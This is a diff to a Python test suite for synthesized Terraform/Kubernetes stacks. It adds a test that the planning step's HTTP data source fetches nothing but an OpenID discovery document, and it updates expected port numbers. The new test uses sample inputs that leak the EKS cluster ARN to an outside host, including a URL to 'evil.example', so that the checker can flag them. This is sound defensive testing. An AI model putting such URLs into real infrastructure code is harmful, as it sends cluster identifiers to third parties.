@@ -12,6 +12,7 @@ from modules import traffic
 from settings.network import Blocks
 from tests.conftest import SETTINGS_FILES, read_stacks, synthesize_into
 from tests.synth.documents import Stack, helm_values, resources
+from tools.gate.stack import unsafe
 from tools.objects import kubernetes_object
 from tools.reach import Party, reaches
 
@@ -231,6 +232,20 @@ def test_endpoints_are_discovered_when_none_is_given(stacks: Stacks) -> None:
     assert not resources(stack, "kubernetes_secret_v1")
 
 
+def test_planning_asks_for_nothing_but_the_discovery_document(stacks: Stacks) -> None:
+    stack = stacks("existing")["adot_amp"]
+    assert not [each for each in unsafe(stack) if "http" in each]
+    ((id, document),) = stack["data"]["http"].items()
+    for changed in (
+        {"url": "https://evil.example/?${data.aws_eks_cluster.cluster.arn}"},
+        {"url": "http://login.example.com/.well-known/openid-configuration"},
+        {"url": "https://x.example/${var.y}/.well-known/openid-configuration"},
+        {"request_headers": {"X": "${data.aws_eks_cluster.cluster.arn}"}},
+    ):
+        other = {**stack, "data": {**stack["data"], "http": {id: document | changed}}}
+        assert any("more than a discovery document" in each for each in unsafe(other))
+
+
 def test_the_callback_of_an_identity_provider_is_told(stacks: Stacks) -> None:
     told = stacks("existing")["adot_amp"]["output"]["kubecost_ui_login_callback_url"]
     assert told["value"] == "https://costs.example.com/oauth2/idpresponse"
@@ -312,12 +327,12 @@ def test_what_is_rendered_is_what_is_judged(stacks: Stacks) -> None:
                 proxy_port=8005 if name == "prom_amp" else None,
                 exposed=False,
             ),
-            *traffic.prometheus(BASE, [3001 + slot]),
+            *traffic.prometheus(BASE, [3101 + slot]),
         )
     agentless = traffic.kubecost(BASE, bundled_prometheus=False, proxy_port=8005, exposed=False)
     assert rendered(everything["amp"]) == plain(*traffic.namespace(), *agentless)
     assert rendered(everything["adot_amp"]) == plain(
-        *traffic.namespace(), *agentless, *traffic.collector(BASE, [3004])
+        *traffic.namespace(), *agentless, *traffic.collector(BASE, [3104])
     )
     shop = Blocks(
         ("10.8.0.0/26", "10.8.0.64/26"),
@@ -327,7 +342,7 @@ def test_what_is_rendered_is_what_is_judged(stacks: Stacks) -> None:
     assert rendered(stacks("existing")["adot_amp"]) == plain(
         *traffic.namespace(),
         *traffic.kubecost(shop, bundled_prometheus=False, proxy_port=8005, exposed=True),
-        *traffic.collector(shop, [3004]),
+        *traffic.collector(shop, [3104]),
     )
     two = Blocks(BASE.control_plane[:2], BASE.nodes[:2], BASE.load_balancers[:2])
     assert rendered(stacks("exposed")["grafana"]) == plain(
